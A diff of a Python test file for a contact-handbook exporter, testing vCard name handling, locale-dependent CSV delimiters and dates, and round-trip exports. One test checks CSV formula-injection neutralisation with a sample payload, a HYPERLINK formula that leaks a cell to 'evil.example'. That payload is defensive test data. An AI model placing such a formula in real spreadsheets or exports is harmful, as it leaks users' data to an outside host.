@@ -6,7 +6,6 @@ import csv
 import dataclasses
 import functools
 import io
-import re
 import tempfile
 from pathlib import Path
 
@@ -89,14 +88,45 @@ def test_crisis_team_vcards_carry_private_numbers(crisis_team):
         assert phone_numbers(card) == {(phone.number, PHONE_TYPE[phone.kind]) for phone in contact.phones}
 
 
-def test_people_get_given_and_family_name_desks_keep_their_whole_name(handbook):
-    """Staff and provider people are sorted by surname on the phone; a hotline's name stays whole."""
+def test_people_get_given_and_family_name_desks_show_as_companies(handbook):
+    """Staff and provider people are sorted by surname on the phone; an authority's desk is a company card:
+    its organisation, an empty person name, its own name as the display name."""
     cards = read_vcards(render_vcards(handbook, LABELS))
     person = next(c for c in handbook.contacts if c.kind.value == "staff")
     desk = next(c for c in handbook.contacts if c.kind.value == "authority")
     person_name = cards[f"{handbook.organisation.id}/{person.id}"].n.value
     assert (person_name.given, person_name.family) == tuple(person.name.rsplit(" ", 1))
-    assert cards[f"{handbook.organisation.id}/{desk.id}"].n.value.family == desk.name
+    desk_card = cards[f"{handbook.organisation.id}/{desk.id}"]
+    assert (desk_card.n.value.family, desk_card.n.value.given) == ("", "")
+    assert desk_card.fn.value == desk.name and desk_card.org.value == [desk.organisation]
+    assert desk_card.x_abshowas.value == "COMPANY"
+
+
+@pytest.mark.parametrize(("name", "expected"), [
+    ("Dr. Anna Berg", ("Dr.", "Anna", "Berg")), ("Prof. Dr. Jan van Dijk", ("Prof. Dr.", "Jan van", "Dijk")),
+    ("Dr. Berg", ("", "Dr.", "Berg")), ("Cher", ("", "", "Cher"))])
+def test_honorifics_go_into_the_name_prefix(name, expected):
+    """'Dr.' and 'Prof.' before a name go into the vCard name's prefix, not into the given name."""
+    assert contact_exports.split_name(name) == expected
+
+
+def test_formula_cells_are_neutralised():
+    """OWASP: a cell starting with = + - @, a tab or a carriage return gets a leading ' (shown as text)."""
+    for value in ("=HYPERLINK(\"http://evil.example/?leak=\"&A2)", "+49 30 1234", "-2+3", "@SUM(A1)", "\tx", "\rx"):
+        assert contact_exports.spreadsheet_cell(value) == "'" + value
+    for value in ("Anna", "", "49", "a=b"):
+        assert contact_exports.spreadsheet_cell(value) == value
+
+
+def test_csv_uses_the_delimiter_and_date_of_the_readers_language(loaded):
+    """German and Swedish spreadsheets expect ';' between cells; dates as 23.11.2026 and 2026-11-23."""
+    for language, delimiter, verified in (("de", ";", "14.09.2026"), ("sv", ";", "2026-09-14"), ("en", ",", "14/09/2026")):
+        staff, edition = prepared(loaded, "staff", language)
+        text = render_contacts_csv(staff, edition.labels)
+        rows = list(csv.DictReader(io.StringIO(text), delimiter=delimiter))
+        katrin = next(row for row in rows if row[edition.labels("print.contacts_csv.id")] == "katrin-vogel")
+        assert katrin[edition.labels("print.contacts_csv.verified")] == verified
+        assert katrin[edition.labels("print.contacts_csv.kind")] == edition.labels("contacts.kind.staff")
 
 
 def test_csv_reads_back_one_row_per_contact(handbook, loaded):
@@ -109,8 +139,9 @@ def test_csv_reads_back_one_row_per_contact(handbook, loaded):
         assert row[LABELS("print.contacts_csv.name")] == contact.name
         for kind in (PhoneKind.office, PhoneKind.mobile):
             expected = "; ".join(p.number for p in contact.phones if p.kind is kind)
-            assert row[LABELS(f"print.contacts_csv.{kind.value}")] == expected
-        assert row[LABELS("print.contacts_csv.verified")] == f"{contact.verified_on:%Y-%m-%d}"
+            # Numbers start with + and are written as text ('+49 …), never run as a formula.
+            assert row[LABELS(f"print.contacts_csv.{kind.value}")] == ("'" + expected if expected else "")
+        assert row[LABELS("print.contacts_csv.verified")] == f"{contact.verified_on:%d/%m/%Y}"
     text = render_contacts_csv(handbook, LABELS)
     assert not any(number in text for number in private_numbers(loaded))
 
@@ -119,7 +150,7 @@ def test_crisis_team_csv_has_a_private_column(crisis_team):
     """The crisis team's CSV has a private column holding every private number."""
     rows = list(csv.DictReader(io.StringIO(render_contacts_csv(crisis_team, LABELS))))
     column = LABELS("print.contacts_csv.private")
-    assert sorted(number for row in rows for number in row[column].split("; ") if number) == \
+    assert sorted(number.removeprefix("'") for row in rows for number in row[column].split("; ") if number) == \
         sorted(private_numbers(crisis_team))
 
 
@@ -160,12 +191,17 @@ TRICKY = st.sampled_from(["&", "&amp;", "<b>", ">", ";", ",", '"', "'", "\n", "\
                           "Mon–Fri", "Özdemir", "Malmö", "ß", "日本", "😀", "=", "\t"])
 DATA_TEXT = (st.lists(st.one_of(TRICKY, st.text(DATA_CHARACTERS, max_size=12)), min_size=1, max_size=8)
              .map("".join).filter(str.strip))
-EMAIL_PART = st.text(DATA_CHARACTERS, min_size=1, max_size=10).filter(lambda part: re.fullmatch(r"[^@\s]+", part))
-EMAILS = st.builds(lambda local, domain, top: f"{local}@{domain}.{top}", EMAIL_PART, EMAIL_PART, EMAIL_PART)
+EMAIL_LOCAL = st.text("abcXYZ019._%+-", min_size=1, max_size=10)
+EMAIL_DOMAIN = st.text("abcxyz019-", min_size=1, max_size=10)
+EMAILS = st.builds(lambda local, domain, top: f"{local}@{domain}.{top}", EMAIL_LOCAL, EMAIL_DOMAIN,
+                   st.text("abcdefghij", min_size=2, max_size=4))
 NUMBERS = {PhoneKind.office: "+49 30 90182001", PhoneKind.mobile: "+49 170 1234567", PhoneKind.private: "+49 171 7654321"}
+# Days as written in the data, and as an English reader sees them (Babel's stand-alone abbreviations).
+DAYS = {"mon-fri": "Mon–Fri", "sat": "Sat", "mon,wed,fri": "Mon, Wed, Fri", "fri-mon": "Fri–Mon", "sat-sun": "Sat, Sun"}
 HOURS = st.one_of(st.just({"kind": "24/7"}),
                   st.builds(lambda days, start, end: {"kind": "business-hours", "days": days, "start": start, "end": end},
-                            DATA_TEXT, st.sampled_from(["00:00", "07:30", "08:00"]), st.sampled_from(["18:00", "23:59"])))
+                            st.sampled_from(list(DAYS)), st.sampled_from(["00:00", "07:30", "19:30"]),
+                            st.sampled_from(["18:00", "23:59", "02:00"])))
 
 
 @functools.cache
@@ -175,8 +211,13 @@ def minimal_handbook():
 
 
 def plain_availability(data: dict) -> str:
-    """The hours as a person writes them: '24/7' or '<days> <start>–<end>', the days exactly as in the data."""
-    return LABELS("contacts.always") if data["kind"] == "24/7" else f"{data['days'].strip()} {data['start']}–{data['end']}"
+    """The hours as a person writes them: '24/7' or '<days> <start>–<end>' (an end before the start is after midnight)."""
+    return LABELS("contacts.always") if data["kind"] == "24/7" else f"{DAYS[data['days']]} {data['start']}–{data['end']}"
+
+
+def spreadsheet(value: str) -> str:
+    """OWASP's rule, as the CSV must follow it: a cell a spreadsheet would run as a formula starts with '."""
+    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value
 
 
 @settings(max_examples=150, deadline=None)
@@ -203,36 +244,42 @@ def test_exports_read_back_arbitrary_text_exactly(name, organisation, job_title,
         vcf = (Path(folder) / "contacts.vcf").read_text(encoding="utf-8")
 
     column = {key: LABELS(f"print.contacts_csv.{key}") for key in contact_exports.CSV_COLUMNS}
-    assert row[column["name"]] == contact.name
-    assert row[column["organisation"]] == contact.organisation
-    assert row[column["job_title"]] == (contact.job_title or "")
-    assert row[column["email"]] == (contact.email or "")
-    assert row[column["note"]] == (contact.note or "")
+    assert row[column["name"]] == spreadsheet(contact.name)
+    assert row[column["organisation"]] == spreadsheet(contact.organisation)
+    assert row[column["job_title"]] == spreadsheet(contact.job_title or "")
+    assert row[column["email"]] == spreadsheet(contact.email or "")
+    assert row[column["note"]] == spreadsheet(contact.note or "")
     assert row[column["roles"]] == roles.replace(", ", "; ")
     assert row[column["availability"]] == availability
+    assert row[column["verified"]] == "01/10/2026"
     for kind in (PhoneKind.office, PhoneKind.mobile):
-        assert row[column[kind.value]] == (NUMBERS[kind] if kind in kinds else "")
+        assert row[column[kind.value]] == ("'" + NUMBERS[kind] if kind in kinds else "")
 
     (card,) = read_vcards(vcf).values()
     assert card.fn.value == contact.name
     parts = card.n.value
-    assert " ".join(part for part in (parts.given, parts.family) if part) == contact.name
+    if contact.is_person:
+        assert " ".join(part for part in (parts.prefix, parts.given, parts.family) if part) == " ".join(contact.name.split())
+    else:
+        assert (parts.given, parts.family) == ("", "")
     assert card.org.value == [contact.organisation]
     assert (card.title.value if "title" in card.contents else None) == contact.job_title
     assert (card.email.value if "email" in card.contents else None) == contact.email
     assert phone_numbers(card) == {(NUMBERS[kind], PHONE_TYPE[kind]) for kind in kinds}
     expected_note = [LABELS("print.vcard.roles", roles=roles), LABELS("print.vcard.availability", availability=availability)]
     expected_note += [contact.note] if contact.note else []
-    expected_note += [LABELS("print.vcard.verified", date="2026-10-01")]
+    expected_note += [LABELS("print.vcard.verified", date="01/10/2026")]
     assert card.note.value == "\n".join(expected_note)
 
 
-def test_hours_with_markup_characters_are_exported_as_written(data_copy):
-    """Hours such as 'Mon–Fri & Sat <late>' reach the CSV and the vCard note as written, not as '&amp;' or '\\<'."""
-    edit(data_copy / "contacts.yml", "days: Mon–Fri", "days: \"Mon–Fri & Sat <late>\"")
+def test_text_with_markup_characters_is_exported_as_written(data_copy):
+    """A note such as 'Mon & Sat <late>' reaches the CSV and the vCard note as written, not as '&amp;' or '\\<';
+    hours read as the English reader writes them."""
+    edit(data_copy / "contacts.yml", "  verified_on: 2026-09-15", "  verified_on: 2026-09-15\n  note: \"Mon & Sat <late> *x*\"")
     handbook = load_on_test_day(data_copy)
     rows = list(csv.DictReader(io.StringIO(render_contacts_csv(handbook, LABELS), newline="")))
-    assert [row[LABELS("print.contacts_csv.availability")] for row in rows if "Mon" in row[LABELS(
-        "print.contacts_csv.availability")]] == ["Mon–Fri & Sat <late> 08:00–18:00"]
+    bert = next(row for row in rows if row[LABELS("print.contacts_csv.id")] == "bert-braun")
+    assert bert[LABELS("print.contacts_csv.note")] == "Mon & Sat <late> *x*"
+    assert bert[LABELS("print.contacts_csv.availability")] == "Mon–Fri 08:00–18:00"
     notes = [card.note.value for card in read_vcards(render_vcards(handbook, LABELS)).values()]
-    assert sum("Available: Mon–Fri & Sat <late> 08:00–18:00" in note for note in notes) == 1
+    assert sum("Mon & Sat <late> *x*" in note and "Available: Mon–Fri 08:00–18:00" in note for note in notes) == 1
